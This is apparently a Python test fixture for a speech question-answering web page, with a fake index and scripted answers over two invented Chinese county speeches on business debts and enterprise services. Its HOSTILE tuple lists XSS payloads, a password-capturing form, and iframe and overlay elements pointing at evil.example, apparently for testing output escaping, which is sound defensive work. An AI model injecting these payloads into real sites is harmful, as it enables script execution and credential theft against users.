"""An index and answers made by hand over invented speeches, with the real data types, for the tests of the page."""

import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace

from tests import made

from askspeech.datatypes import (
    Answer,
    AnswerEvent,
    Citation,
    CitationResolved,
    Done,
    Fact,
    Filters,
    Hit,
    Language,
    Locator,
    Notice,
    Passage,
    SearchResult,
    Sentence,
    SentenceChecked,
    Source,
    Span,
    Speech,
    TextAdded,
    Turn,
    slices,
)
from askspeech.errors import NotInIndexError, QuestionError, StoreMissingError
from askspeech.glance import TermUses, speech_uses, term_pattern
from askspeech.whole_speech import WholeSpeech

PREFACE = "𠮷林发布：本文件收录两篇讲话。\n\n"
FIRST = """在柳溪县优化营商环境大会上的讲话

同志们：

今天的会议很重要。营商环境就是生产力，抓环境就是抓发展。

一、清理拖欠账款

一要摸清底数。各部门在九月底前建立拖欠账款台账，写明每一笔欠款的金额和还款时间。𠮷祥街办事处要先行一步。

二要限时清偿。能一次还清的立即还清，不能一次还清的要与企业签订还款
协议，最迟不超过两年。

三要严防新欠。没有预算的项目一律不得开工，谁签字、谁负责。
"""
SECOND = """在柳溪县服务企业座谈会上的讲话

各位企业家：

感谢大家提出的意见。下面我讲两点。

一是派驻服务专员。每家规模以上企业派驻一名服务专员，每周至少到企业一次，帮助办理用工、用电手续。

二是畅通投诉渠道。开通企业服务热线，投诉事项五个工作日内答复。
"""
TEXT = PREFACE + FIRST + "\n" + SECOND
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "![x](http://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "<form action=http://evil.example><input name=p type=password></form>",
    '<a href="javascript:alert(1)">link</a>',
    "$$\\frac{1}{2}$$ and $x$ and \\(y\\)",
    "`code` and ```\nfence\n```",
    "&lt;b&gt;entities&amp;&#60;i&#62;",
    "# heading\n\n* item\n\n1. one\n\n> quote",
    "</div></article></section><h1>out</h1>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)'",
    "<iframe src=http://evil.example></iframe>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/x)'>cover</div>",
    "**bold** _italic_ ~~gone~~ | a | b |",
    "http://evil.example/auto www.evil.example a@evil.example",
    '__i18n__{"__type__":"translation_metadata","key":"title"}',
    "${alert(1)} {{constructor}} <%= 1 %>",
    "<!-- comment --> <![CDATA[x]]> <?php ?>",
    "line\r\n\r\nbreak\u2028separator\x00null\x1bescape",
    "<button class=as-cite value='{}'>1</button> [1] [99]",
    "<textarea></textarea><title></title><plaintext>",
)


def span_of(words: str, text: str = TEXT) -> Span:
    """Where those words first stand."""
    start = text.index(words)
    return Span(start, start + len(words))


def speech(
    number: int, title: str, text: str, *, file: str = "柳溪县/讲话汇编.txt", whole: str = TEXT, **facts: str
) -> Speech:
    """A speech whose text stands in the whole, with facts by name."""
    known = tuple(Fact(name, value, "derived") for name, value in facts.items())
    return Speech(f"speech-{number}", "source-1", file, title, span_of(text, whole), facts=known, characters=len(text))


FIRST_SPEECH = speech(
    1, "在柳溪县优化营商环境大会上的讲话", FIRST, level="县", place="柳溪县", kind="大会", year="2023"
)
SECOND_SPEECH = speech(2, "在柳溪县服务企业座谈会上的讲话", SECOND, level="县", place="柳溪县", kind="座谈会")


def citation(number: int, of: Speech, *spans: Span, path: tuple[str, ...] = (), text: str = TEXT) -> Citation:
    """A citation of those spans."""
    line = text.count("\n", 0, spans[0].start) + 1
    return Citation(
        number, of.source_id, of.file, of.id, of.title, f"passage-{number}", spans, slices(text, spans),
        Locator("line", line, line + text[spans[0].start : spans[-1].end].count("\n")), path,
    )  # fmt: skip


def hit(of: Speech, words: str, *, path: tuple[str, ...] = (), text: str = TEXT) -> Hit:
    """A hit of a passage that holds those words."""
    span = span_of(words, text)
    return Hit(Passage("passage-9", of.source_id, of.id, None, of.file, "text", words, (span,), path), of, 0.4)


PATH = ("一、清理拖欠账款",)
LEDGER = citation(
    1,
    FIRST_SPEECH,
    span_of("一要摸清底数。各部门在九月底前建立拖欠账款台账，写明每一笔欠款的金额和还款时间。"),
    path=PATH,
)
PAYING = citation(
    2,
    FIRST_SPEECH,
    span_of("二要限时清偿。能一次还清的立即还清，不能一次还清的要与企业签订还款"),
    span_of("协议，最迟不超过两年。"),
    path=PATH,
)
BUDGET = citation(3, FIRST_SPEECH, span_of("三要严防新欠。没有预算的项目一律不得开工，谁签字、谁负责。"), path=PATH)
HOTLINE = citation(
    4, SECOND_SPEECH, span_of("开通企业服务热线，投诉事项五个工作日内答复。"), path=("二是畅通投诉渠道",)
)
OFFICER = citation(
    1, SECOND_SPEECH, span_of("每家规模以上企业派驻一名服务专员，每周至少到企业一次，帮助办理用工、用电手续。")
)


def answer(
    question: str, lines: Sequence[str | tuple[str, Citation]], *, outcome: str = "answered", **rest: object
) -> Answer:
    """An answer of plain lines and of lines with their citations."""
    pairs = [(line, None) if isinstance(line, str) else line for line in lines]
    text = "\n".join(line if cited is None else f"{line}[{cited.number}]" for line, cited in pairs)
    sentences = tuple(Sentence(line, () if cited is None else (cited.number,)) for line, cited in pairs if line)
    citations = tuple(cited for _, cited in pairs if cited is not None)
    search = SearchResult((), (), question, Filters())
    made = Answer(question, text, sentences, citations, "answered", (), search)
    return replace(made, outcome=outcome, **rest)  # type: ignore[arg-type]


DEBTS = answer(
    "对拖欠企业的账款怎么办？",
    [
        "《在柳溪县优化营商环境大会上的讲话》提出三条要求：",
        (LEDGER.quote, LEDGER),
        (PAYING.quote, PAYING),
        (BUDGET.quote, BUDGET),
        "",
        "《在柳溪县服务企业座谈会上的讲话》还提到：",
        (HOTLINE.quote, HOTLINE),
    ],
)
OFFICERS = answer("服务专员做什么？", [(OFFICER.quote, OFFICER)])
WEATHER = answer(
    "明天天气怎么样？",
    ["讲话里没有找到这个问题的答案。"],
    outcome="not_found",
    nearest=(
        hit(FIRST_SPEECH, "营商环境就是生产力，抓环境就是抓发展。"),
        hit(SECOND_SPEECH, "感谢大家提出的意见。下面我讲两点。"),
    ),
)


@dataclass
class FakeIndex:
    """Speeches of one source."""

    text: str = TEXT
    all_speeches: tuple[Speech, ...] = (FIRST_SPEECH, SECOND_SPEECH)
    questions: tuple[str, ...] = (DEBTS.question, OFFICERS.question, "投诉几天内答复？", WEATHER.question)
    generation: str = "20250101-000000"
    notices: tuple[str, ...] = ()
    gone: bool = False
    closed: int = 0

    def source(self, source_id: str) -> Source:
        """The one source."""
        if source_id != "source-1":
            raise NotInIndexError(f"There is no source {source_id} in the index.")
        return made.source(self.text)

    def source_text(self, source_id: str) -> str:
        """Its text."""
        return self.source(source_id).text

    def speeches(self) -> list[Speech]:
        """The speeches."""
        if self.gone:
            raise StoreMissingError("The index has gone.")
        return list(self.all_speeches)

    def speech(self, speech_id: str) -> Speech:
        """One speech."""
        for one in self.all_speeches:
            if one.id == speech_id:
                return one
        raise NotInIndexError(f"There is no speech {speech_id} in the index.")

    def whole_speech(self, speech_id: str) -> WholeSpeech:
        """One speech with the text."""
        return WholeSpeech(self.speech(speech_id), made.source(self.text))

    def passage_count(self) -> int:
        """How many there seem to be."""
        return 9

    def passages(self, speech_id: str) -> list[Passage]:
        """One passage for every line of a speech, all under one heading."""
        start, end = self.speech(speech_id).span
        ends = [at + 1 for at in range(start, end) if self.text[at] == "\n"]
        lines = zip([start, *ends], [*ends, end], strict=True)
        spans = [Span(first, last) for first, last in lines if self.text[first:last].strip()]
        return [
            Passage(f"line-{at.start}", "source-1", speech_id, None, "", "text", self.text[slice(*at)], (at,), PATH)
            for at in spans
        ]

    def uses(self, term: str, filters: Filters | None = None) -> TermUses:
        """Where the speeches use a term, whatever the filters."""
        pattern, source = term_pattern(term), made.source(self.text)
        found = [speech_uses(pattern, one, source, ()) for one in self.speeches()]
        using = sorted((one for one in found if one.places), key=lambda one: -one.count)
        return TermUses(term, tuple(using), self.all_speeches)

    def example_questions(self, count: int, language: Language = "zh") -> list[str]:
        """The questions that the fake answers know."""
        return list(self.questions[:count])

    def next_questions(
        self, citations: Sequence[Citation], count: int = 3, *, asked: Sequence[str] = (), language: Language = "zh"
    ) -> list[str]:
        """The questions that were not asked yet."""
        return [question for question in self.questions if question not in asked][:count]

    def refresh(self) -> bool:
        """Nothing newer, unless the store has gone."""
        if self.gone:
            raise StoreMissingError("The index has gone.")
        return False

    def close(self) -> None:
        """Count how often it was closed."""
        self.closed += 1


@dataclass
class FakeAnswers:
    """Scripted answers; `gate` holds an answer back after its first words until it is set."""

    answers: tuple[Answer, ...] = (DEBTS, OFFICERS, WEATHER)
    gate: threading.Event | None = None
    histories: list[tuple[Turn, ...]] = field(default_factory=list)
    filters: list[Filters | None] = field(default_factory=list)
    ways: list[tuple[bool, bool]] = field(default_factory=list)
    """Of each question, whether it was asked literally, and for quotations only."""
    has_chat_model: bool = False
    closed: threading.Event = field(default_factory=threading.Event)

    def stream(
        self,
        question: str,
        *,
        history: Sequence[Turn] = (),
        filters: Filters | None = None,
        literal: bool = False,
        quotations: bool = False,
    ) -> Iterator[AnswerEvent]:
        """The scripted answer to a question."""
        if not question:
            raise QuestionError("The question is empty. Type what you want to know. 问题是空的。")
        if question == "defect":
            raise RuntimeError("a defect that nobody foresaw: secret detail")
        self.histories.append(tuple(history))
        self.filters.append(filters)
        self.ways.append((literal, quotations))
        chosen = next((one for one in self.answers if one.question == question), replace(WEATHER, question=question))
        return self._events(chosen)

    def _events(self, chosen: Answer) -> Iterator[AnswerEvent]:
        try:
            for notice in chosen.notices:
                yield Notice(notice)
            for cited in chosen.citations:
                yield CitationResolved(cited)
            middle = len(chosen.text) // 2
            yield TextAdded(chosen.text[:middle])
            if self.gate:
                while not self.gate.wait(0.05):
                    yield TextAdded("")
            yield TextAdded(chosen.text[middle:])
            for number, sentence in enumerate(chosen.sentences):
                yield SentenceChecked(number, sentence)
            yield Done(chosen)
        finally:
            self.closed.set()


HOSTILE_QUESTION = "hostile"
HOSTILE_NEAREST = "hostile nearest"


def hostile(payloads: Sequence[str] = HOSTILE) -> tuple[FakeIndex, FakeAnswers]:
    """An index and answers in which every payload is a title, a file's name, a heading, a quotation and a notice."""
    parts = [f"前言\n正文{payload}。后面{payload}\n" for payload in payloads]
    whole = "\n".join(parts)
    speeches, cited, near = [], [], []
    for number, (payload, part) in enumerate(zip(payloads, parts, strict=True), 1):
        one = speech(number, payload, part, file=payload, whole=whole)
        words = f"正文{payload}。"
        speeches.append(one)
        cited.append(citation(number, one, span_of(words, whole), path=(payload,), text=whole))
        near.append(hit(one, words, path=(payload,), text=whole))
    made = answer(HOSTILE_QUESTION, [(one.quote.replace("\n", " "), one) for one in cited])
    made = replace(made, notices=tuple(payloads))
    refusal = answer(HOSTILE_NEAREST, ["Nothing was found."], outcome="not_found", nearest=tuple(near), language="en")
    return FakeIndex(whole, tuple(speeches), tuple(payloads)), FakeAnswers((made, refusal))
